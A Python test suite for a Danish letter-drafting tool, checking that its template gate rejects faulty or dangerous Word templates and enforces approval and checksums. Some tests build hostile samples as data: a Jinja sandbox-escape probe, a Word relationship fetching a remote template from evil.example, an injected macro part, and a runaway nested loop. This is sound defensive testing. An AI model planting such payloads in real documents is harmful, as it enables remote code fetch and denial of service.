import io
import zipfile

import pytest
from docx import Document

from drafting.cli.main import main
from drafting.errors import DraftingError
from drafting.rendering import chosen, gate, render_docx
from drafting.rendering.build_template import TEMPLATE
from drafting.rendering.gate import checksum, judge_template, template_faults
from drafting.rendering.readback import paragraphs_of
from drafting.storage import read_settings
from tests.conftest import CONTRACT
from tests.text.letters import letter


def authored(tmp_path, *paragraphs):
    document = Document()
    for text in paragraphs:
        document.add_paragraph(text)
    path = tmp_path / "egen.docx"
    document.save(path)
    return path


LOOP = (
    "{%p for afsnit in brev.hoved %}",
    "{{r afsnit.tekst }}",
    "{%p endfor %}",
    "{{ brev.titel }}",
    "{%p for afsnit in brev.afsnit %}",
    "{{r afsnit.tekst }}",
    "{%p endfor %}",
)


def test_our_own_template_passes_the_gate():
    assert template_faults(TEMPLATE) == ()
    assert len(checksum(TEMPLATE)) == 64


def test_a_template_authored_in_word_passes_the_same_gate_and_keeps_its_own_words(tmp_path):
    path = authored(tmp_path, "Kontorets eget brevhoved", *LOOP)
    assert template_faults(path) == ()
    assert render_docx(letter("S01"), path)


@pytest.mark.parametrize(
    "paragraphs",
    [
        pytest.param(["{{ brev.titel }}"], id="loses-the-letter"),
        pytest.param([*LOOP, "{{ brev.cpr }}"], id="unknown-variable"),
        pytest.param([*LOOP[:-1]], id="unclosed-loop"),
        pytest.param([*LOOP, "{{ brev.__class__ }}"], id="reaches-out-of-the-sandbox"),
        pytest.param([*LOOP, *LOOP], id="says-all-twice"),
    ],
)
def test_the_gate_stops_a_template_that_would_spoil_letters(tmp_path, paragraphs):
    assert template_faults(authored(tmp_path, *paragraphs))


def test_a_file_that_is_no_template_is_stopped(tmp_path):
    path = tmp_path / "egen.docx"
    path.write_bytes(b"ikke en zip")
    assert any("kan ikke læses" in fault for fault in template_faults(path))


def test_a_variable_the_letter_does_not_have_is_named_even_where_the_trial_never_comes(tmp_path):
    hidden = "{% if false %}{{ brev.cpr }}{% endif %}"
    [fault] = template_faults(authored(tmp_path, *LOOP, hidden))
    assert "brev.cpr" in fault
    assert "brev.titel" in fault


def test_a_variable_in_the_head_of_the_page_is_held_against_the_model_too(tmp_path):
    path = authored(tmp_path, *LOOP)
    document = Document(path)
    document.sections[0].header.paragraphs[0].text = "{{ brev.journalnummer }}"
    document.save(path)
    assert "sidehoved" in template_faults(path)[0]


def repacked(path, change):
    """The template with its parts changed by `change(name, content)`; None adds `extra`."""
    out = io.BytesIO()
    with zipfile.ZipFile(path) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            new.writestr(name, change(name, old.read(name)))
        for name, content in change(None, None).items():
            new.writestr(name, content)
    path.write_bytes(out.getvalue())
    return path


def test_a_template_that_fetches_or_runs_something_is_stopped(tmp_path):
    link = (
        '<Relationship Id="rX" TargetMode="External" Target="http://evil.example/x.dotm" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate"/></Relationships>'
    )

    def fetching(name, content):
        if name is None:
            return {}
        if name == "word/_rels/document.xml.rels":
            return content.replace(b"</Relationships>", link.encode())
        return content

    def running(name, content):
        return {"word/vbaProject.bin": b"x"} if name is None else content

    fetched = template_faults(repacked(authored(tmp_path, *LOOP), fetching))
    assert "henter noget uden for filen" in fetched[0]
    assert "makroer" in template_faults(repacked(authored(tmp_path, *LOOP), running))[0]


def test_a_template_that_never_ends_is_ended(tmp_path, monkeypatch):
    row = "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}"
    assert template_faults(authored(tmp_path, *LOOP, row))
    monkeypatch.setattr(gate, "SECONDS", 0.01)
    assert "tid og hukommelse" in template_faults(TEMPLATE)[0]


def test_a_template_without_headings_page_numbers_or_danish_gets_advice(tmp_path):
    assert judge_template(TEMPLATE).advice == ()
    path = authored(tmp_path, *LOOP)
    said = " ".join(judge_template(path).advice)
    for word in ("Overskrifterne", "sidetal", "Sproget"):
        assert word in said


@pytest.fixture
def office(tmp_path, monkeypatch):
    """A data folder of its own, for the office's own template."""
    monkeypatch.setenv("UDKAST_DATA", str(tmp_path / "data"))
    return tmp_path


def test_an_approved_template_is_used_by_every_letter_until_the_standard_is_chosen(office, capsys):
    path = authored(office, "Kontorets eget brevhoved", *LOOP)
    assert main(["template", "use", str(path), "--by", "A. Prøve"]) == 0
    path.unlink()  # the approved file is kept, whatever happens to the one it was made from
    assert "Kontorets eget brevhoved" in paragraphs_of(render_docx(letter("S01")))
    capsys.readouterr()
    assert main(["template", "show"]) == 0
    assert "A. Prøve" in capsys.readouterr().out
    assert main(["template", "standard"]) == 0
    assert "Kontorets eget brevhoved" not in paragraphs_of(render_docx(letter("S01")))


def test_a_template_changed_after_its_approval_writes_no_letter(office, capsys):
    main(["template", "use", str(authored(office, *LOOP)), "--by", "A. Prøve"])
    [kept] = (office / "data" / "skabelon").glob("*.docx")
    kept.write_bytes(kept.read_bytes() + b"x")
    with pytest.raises(DraftingError) as error:
        render_docx(letter("S01"))
    assert "ændret" in error.value.user_message
    assert "A. Prøve" in error.value.user_message
    case = str(CONTRACT / "cases" / "R01.json")
    assert main(["draft", case, "-o", str(office / "brev.docx")]) == 2
    assert not (office / "brev.docx").exists()


def test_a_changed_template_of_our_own_writes_no_letter(office, monkeypatch):
    copied = office / "brev.docx"
    copied.write_bytes(TEMPLATE.read_bytes() + b"x")
    copied.with_suffix(".docx.sha256").write_bytes(
        TEMPLATE.with_suffix(".docx.sha256").read_bytes()
    )
    monkeypatch.setattr(chosen, "BUILT_IN", copied)
    with pytest.raises(DraftingError, match="changed"):
        render_docx(letter("S01"))


def test_a_faulty_template_is_not_taken_into_use_and_nobody_is_no_approver(office, capsys):
    path = authored(office, "{{ brev.titel }}")
    assert main(["template", "use", str(path), "--by", "A. Prøve"]) == 1
    assert main(["template", "check", str(path)]) == 1
    assert main(["template", "use", str(authored(office, *LOOP))]) == 2
    assert chosen.approved() is None
    assert main(["template", "check", str(TEMPLATE)]) == 0
    assert main(["template", "get", "-o", str(office / "kopi.docx")]) == 0
    assert (office / "kopi.docx").read_bytes() == TEMPLATE.read_bytes()


def test_the_checksum_beside_our_own_template_is_its_own():
    said = TEMPLATE.with_suffix(".docx.sha256").read_text("ascii").split()
    assert said == [checksum(TEMPLATE), TEMPLATE.name]


def test_the_office_template_lies_in_the_data_folder_of_the_store(monkeypatch, tmp_path):
    monkeypatch.setenv("UDKAST_DATA", str(tmp_path))
    assert chosen.folder().parent == read_settings().data
    monkeypatch.delenv("UDKAST_DATA")
    assert chosen.folder().parent == read_settings().data
